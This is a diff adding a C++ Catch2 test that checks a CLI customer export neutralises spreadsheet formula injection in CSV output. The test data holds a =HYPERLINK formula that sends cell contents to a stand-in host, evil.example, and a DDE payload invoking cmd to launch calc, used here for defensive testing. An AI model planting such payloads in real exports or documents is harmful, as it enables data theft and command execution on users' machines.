@@ -1,8 +1,12 @@
 #include "CliRun.h"
 #include "TestSupport.h"
+#include "core/customers/CustomerRepository.h"
+#include "core/db/Database.h"
+#include "core/util/Clock.h"
 
 #include <QFile>
 #include <QProcess>
+#include <QTemporaryDir>
 #include <catch2/catch.hpp>
 
 using namespace threerings;
@@ -93,4 +97,44 @@ TEST_CASE("export refuses bad input with the right exit code and a message namin
     CHECK(r.code == 4);
     CHECK(r.err.contains(QStringLiteral("does not exist")));
     CHECK_FALSE(QFile::exists(t.dir.filePath(QStringLiteral("missing.sqlite"))));
+}
+
+TEST_CASE("a customer named like a spreadsheet formula is exported as text that runs nothing")
+{
+    QTemporaryDir dir;
+    REQUIRE(dir.isValid());
+    const QString db = dir.filePath(QStringLiteral("formula.sqlite"));
+    test::makeDemoDatabase(db, 1);
+    const QString evil = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for details\")");
+    {
+        auto opened = Database::open(db, Database::Open::MustExist);
+        REQUIRE(opened.ok());
+        SystemClock clock;
+        Customer c;
+        c.name = evil;
+        c.unit = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
+        c.phoneMobile = QStringLiteral("13812345678");
+        REQUIRE(CustomerRepository(**opened, clock).insert(c, {}).ok());
+    }
+    const QString out = dir.filePath(QStringLiteral("customers.csv"));
+    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
+    env.insert(QStringLiteral("THREERINGS_PASSWORD"), QStringLiteral("demo8000"));
+    const Run r =
+        test::runCli({QStringLiteral("--db"), db, QStringLiteral("--user"), QStringLiteral("3001"),
+                      QStringLiteral("export"), QStringLiteral("customers"), QStringLiteral("--format"),
+                      QStringLiteral("csv"), QStringLiteral("--out"), out},
+                     {}, env);
+    INFO(r.err.toStdString());
+    REQUIRE(r.code == 0);
+    QFile file(out);
+    REQUIRE(file.open(QIODevice::ReadOnly));
+    const QString csv = QString::fromUtf8(file.readAll());
+    CHECK(csv.contains(
+        QStringLiteral(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click for details\"\")\",")));
+    CHECK(csv.contains(QStringLiteral(",\"'@SUM(1+1)*cmd|' /C calc'!A0\",")));
+    // The phone stays a plain number, and no line starts a cell with a formula.
+    CHECK(csv.contains(QStringLiteral(",+8613812345678,")));
+    CHECK_FALSE(csv.contains(QStringLiteral(",=")));
+    CHECK_FALSE(csv.contains(QStringLiteral(",@")));
+    CHECK_FALSE(csv.contains(QStringLiteral("\n=")));
 }
